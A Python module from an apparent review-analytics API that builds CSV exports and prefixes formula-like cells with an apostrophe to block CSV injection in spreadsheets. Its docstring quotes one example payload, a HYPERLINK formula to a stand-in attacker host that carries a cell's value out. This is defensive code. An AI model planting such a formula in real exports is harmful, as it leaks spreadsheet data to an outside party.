"""The review CSV export's cells: safe to open in a spreadsheet by default, raw for training.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with `=`, `+`, `-` or
`@` as a formula, and one that starts with a tab or carriage return can be read as one too, so a
public review such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link
in the admin's download. As OWASP advises (CSV Injection), such a text cell is prefixed with `'`,
which spreadsheets show as text and never evaluate. Numbers are written as they are.

The training export (`format=training`) keeps every text as stored and leaves out the reviews an
admin flagged (as `retrain` does): it is read by `train`, never by a spreadsheet. Both have the
same columns, `id` and `flagged` last, so a row can be found again on the admin page and a reader
that takes the columns by position still finds the first six where they were.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable
from datetime import UTC
from typing import Any

from marshmallow import fields, validate

from brandpulse.api.endpoints.review_schemas import ReviewFilterSchema
from brandpulse.api.storage.tables import Review

# What a spreadsheet may take for the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEET = "spreadsheet"
TRAINING = "training"
FORMATS = (SPREADSHEET, TRAINING)
FILENAMES = {SPREADSHEET: "reviews.csv", TRAINING: "reviews-training.csv"}
COLUMNS = ("text", "label", "brand", "created_at", "suggested_rating", "score", "id", "flagged")


def neutralise(cell: Any) -> Any:
    """`cell` as a spreadsheet shows it without running it: a text starting like a formula gets a
    leading `'`; anything else (numbers, other text) is returned unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def raw(cell: Any) -> Any:
    """`cell` unchanged: the training export."""
    return cell


def csv_lines(rows: Iterable[Review], header: bool, cell: Callable[[Any], Any] = neutralise) -> str:
    """`rows` (reviews with their brand) as CSV lines; `cell` writes each text cell (by default,
    safe in a spreadsheet)."""
    buffer = io.StringIO()
    # RFC 4180's CRLF: the csv module quotes a cell holding any character of the line terminator,
    # so a text with a bare carriage return (which readers take for a line end) is quoted too.
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header:
        writer.writerow(COLUMNS)
    for review in rows:
        writer.writerow(
            (
                cell(review.text),
                review.rating,
                cell(review.brand.name),
                review.created_at.replace(tzinfo=UTC).isoformat(),
                "" if review.suggested_rating is None else review.suggested_rating,
                "" if review.score is None else repr(review.score),
                review.id,
                "true" if review.flagged else "false",
            )
        )
    return buffer.getvalue()


class ReviewExportQuerySchema(ReviewFilterSchema):
    """Filters of the export and what the file is for."""

    format = fields.String(
        load_default=SPREADSHEET,
        validate=validate.OneOf(FORMATS),
        metadata={
            "description": "`spreadsheet` (default, reviews.csv): every review matching the filters, "
            "flagged ones included; every text cell that a spreadsheet would run (starting with `=`, "
            "`+`, `-`, `@`, a tab or a carriage return) is prefixed with `'`. `training` "
            "(reviews-training.csv): the texts exactly as stored, for `train --labels stars3`, "
            "without the reviews an admin flagged; never open it in a spreadsheet."
        },
    )
